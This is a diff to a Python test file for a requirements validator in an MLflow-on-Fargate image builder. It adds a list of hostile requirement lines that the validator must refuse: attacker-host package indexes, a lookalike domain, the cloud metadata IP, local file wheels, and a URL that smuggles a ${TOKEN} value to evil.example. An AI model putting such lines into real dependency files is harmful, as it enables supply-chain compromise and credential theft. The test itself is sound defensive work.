@@ -8,7 +8,7 @@ from hypothesis import strategies as st
 from packaging.requirements import Requirement
 
 from mlflow_fargate.errors import ImageError
-from mlflow_fargate.image.packages.requirements import normalize, replace_locked_twins
+from mlflow_fargate.image.packages.requirements import lines_of_a_model, normalize, replace_locked_twins
 from mlflow_fargate.image.packages.twins import LIBRARIES, Library
 from mlflow_fargate.resolved_model import without_credentials
 
@@ -260,3 +260,48 @@ def test_without_adapting_packages_are_not_replaced() -> None:
 def test_without_adapting_unsupported_lines_are_refused_too() -> None:
     with pytest.raises(ImageError, match="is a source distribution"):
         normalize(["git+https://example.com/a.git"], machine="x86_64", adapt=False)
+
+
+OWN_INDEX = "https://me:secret@pypi.example.com/simple"
+
+
+def test_a_models_index_is_accepted_only_if_the_options_name_it() -> None:
+    lines = ["--index-url https://pypi.example.com/simple/", "-i https://pypi.org/simple", "six  # a comment", ""]
+
+    assert lines_of_a_model(lines, (None, OWN_INDEX)) == ("six",)
+    with pytest.raises(ImageError, match=r"not among the options: https://pypi\.example\.com/simple/") as refused:
+        lines_of_a_model(lines, (None,))
+    assert "extra_index_urls=https://pypi.example.com/simple/" in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--extra-index-url http://evil.example/simple",
+        "--extra-index-url=file:///srv/wheels",
+        "-i https://pypi.example.com.evil.example/simple",
+        "-i https://evil.example/simple#https://pypi.example.com/simple",
+        "-f https://evil.example",
+        "--find-links /srv/wheels",
+        "-fhttps://evil.example",
+        "x @ git+https://evil.example/x",
+        "git+https://evil.example/x",
+        "x @ http://169.254.169.254/x.whl",
+        "x @ file:///x.whl",
+        "x @ ../x",
+        "-e .",
+        "--index-url https://${TOKEN}.evil.example",
+        "--trusted-host evil.example",
+        "--pre",
+        "-r other.txt",
+    ],
+)
+def test_a_models_lines_do_not_widen_where_packages_come_from(line: str) -> None:
+    with pytest.raises(ImageError):
+        lines_of_a_model(["six", line], (OWN_INDEX,))
+
+
+def test_a_models_wheel_at_an_https_url_is_kept() -> None:
+    line = "x @ https://h.example/x-1-py3-none-any.whl"
+
+    assert lines_of_a_model([line], ()) == (line,)
